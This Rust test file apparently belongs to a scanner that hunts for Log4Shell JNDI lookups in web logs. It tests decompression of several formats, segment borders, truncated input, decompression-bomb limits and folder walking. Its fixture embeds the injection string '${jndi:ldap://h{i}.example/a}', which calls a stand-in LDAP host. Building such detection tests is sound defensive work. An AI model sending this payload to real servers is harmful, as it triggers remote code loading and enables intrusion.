//! Tests of the input readers: every container format, folders, failures and segment borders.

use std::io::Write;
use std::sync::Mutex;

use super::*;

#[derive(Default)]
struct Collect {
    hits: Mutex<Vec<(String, Hit)>>,
    warnings: Mutex<Vec<String>>,
}

impl HuntObserver for Collect {
    fn on_hits(&self, input: &Input, hits: Vec<Hit>) {
        let mut all = self.hits.lock().unwrap();
        all.extend(hits.into_iter().map(|h| (input.to_string(), h)));
    }
    fn on_warning(&self, warning: InputWarning) {
        self.warnings.lock().unwrap().push(warning.to_string());
    }
}

fn log_text() -> String {
    let mut log = String::new();
    for i in 0..5_000 {
        if i % 1_000 == 7 {
            log.push_str(&format!("{i} GET /?x=${{jndi:ldap://h{i}.example/a}}\n"));
        } else {
            log.push_str("10.0.0.1 - - [10/Dec/2021] \"GET /static/app.js HTTP/1.1\" 200 1234\n");
        }
    }
    log
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn compressed(format: Compression, data: &[u8]) -> Vec<u8> {
    match format {
        Compression::Plain => data.to_vec(),
        // Two members, as `cat a.gz b.gz` makes: both must be read.
        Compression::Gzip => {
            let half = data.len() / 2;
            let cut = half + data[half..].iter().position(|&b| b == b'\n').unwrap() + 1;
            [gzip(&data[..cut]), gzip(&data[cut..])].concat()
        }
        Compression::Zstd => zstd::encode_all(data, 1).unwrap(),
        Compression::Bzip2 => {
            let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        }
        Compression::Xz => {
            let mut e = liblzma::write::XzEncoder::new(Vec::new(), 1);
            e.write_all(data).unwrap();
            e.finish().unwrap()
        }
    }
}

fn scan(bytes: Vec<u8>, options: &InputOptions) -> (Result<Compression, String>, Vec<Hit>) {
    let mut hits = Vec::new();
    let result = hunt_reader(
        &Hunter::default(),
        Box::new(Cursor::new(bytes)),
        options,
        &mut |h| hits.extend(h),
        &|_| {},
    );
    (
        result.map(|(c, _)| c).map_err(|f| f.error.to_string()),
        hits,
    )
}

#[test]
fn every_format_by_content_gives_the_same_hits() {
    let log = log_text();
    let (_, expected) = scan(log.clone().into_bytes(), &InputOptions::default());
    assert_eq!(expected.len(), 5);
    for format in [
        Compression::Plain,
        Compression::Gzip,
        Compression::Zstd,
        Compression::Bzip2,
        Compression::Xz,
    ] {
        let (detected, hits) = scan(compressed(format, log.as_bytes()), &InputOptions::default());
        assert_eq!(detected, Ok(format));
        assert_eq!(hits, expected, "{format:?}");
    }
}

#[test]
fn small_segments_agree_with_one_scan() {
    let log = log_text();
    let mut expected = Vec::new();
    let summary = Hunter::default().scan_bytes(log.as_bytes(), |h| expected.push(h));
    let options = InputOptions {
        segment_bytes: 1, // raised to the 64 KiB floor
        ..InputOptions::default()
    };
    let mut hits = Vec::new();
    let (_, streamed) = hunt_reader(
        &Hunter::default(),
        Box::new(Cursor::new(log.into_bytes())),
        &options,
        &mut |h| hits.extend(h),
        &|_| {},
    )
    .unwrap();
    assert_eq!(hits, expected);
    assert_eq!(streamed, summary);
}

#[test]
fn corrupt_input_warns_and_keeps_earlier_hits() {
    let log = log_text();
    let mut bytes = gzip(log.as_bytes());
    let len = bytes.len();
    bytes.truncate(len * 3 / 4);
    let options = InputOptions {
        segment_bytes: 1 << 16,
        ..InputOptions::default()
    };
    let (result, hits) = scan(bytes, &options);
    let message = result.unwrap_err();
    assert!(
        message.contains("gzip content failed after line"),
        "{message}"
    );
    assert!(!hits.is_empty());
}

#[test]
fn compression_bombs_stop_at_the_limit() {
    let bomb = zstd::encode_all(&vec![b'a'; 8 << 20][..], 3).unwrap();
    assert!(bomb.len() < 4096);
    let options = InputOptions {
        max_decompressed_bytes: 1 << 20,
        ..InputOptions::default()
    };
    let (result, _) = scan(bomb, &options);
    assert!(result.unwrap_err().contains("inflates past 1048576 bytes"));
    // Exactly at the limit is fine.
    let exact = zstd::encode_all(&vec![b'a'; 1 << 20][..], 3).unwrap();
    assert_eq!(scan(exact, &options).0, Ok(Compression::Zstd));
}

#[test]
fn folders_are_walked_and_bad_files_are_warnings() {
    let dir = tempfile::tempdir().unwrap();
    let nested = dir.path().join("a/b");
    std::fs::create_dir_all(&nested).unwrap();
    let log = log_text();
    std::fs::write(dir.path().join("access.log"), &log).unwrap();
    std::fs::write(nested.join("old.log.1"), gzip(log.as_bytes())).unwrap();
    std::fs::write(nested.join("broken.gz"), [0x1f, 0x8b, 8, 0, 1, 2, 3]).unwrap();
    let missing = dir.path().join("missing.log");
    let (inputs, warnings) = expand_paths(&[dir.path().to_path_buf(), missing]);
    assert_eq!(inputs.len(), 3);
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].to_string().contains("cannot open it"));

    let observer = Collect::default();
    let totals = hunt_inputs(
        &Hunter::default(),
        &inputs,
        &InputOptions::default(),
        &observer,
    );
    assert_eq!(totals.files, 3);
    assert_eq!(totals.compressed_files, 2);
    assert_eq!(totals.failed_files, 1);
    assert_eq!(totals.scan.hits, 10);
    assert_eq!(observer.hits.lock().unwrap().len(), 10);
    let warnings = observer.warnings.lock().unwrap();
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].contains("broken.gz"), "{warnings:?}");
}
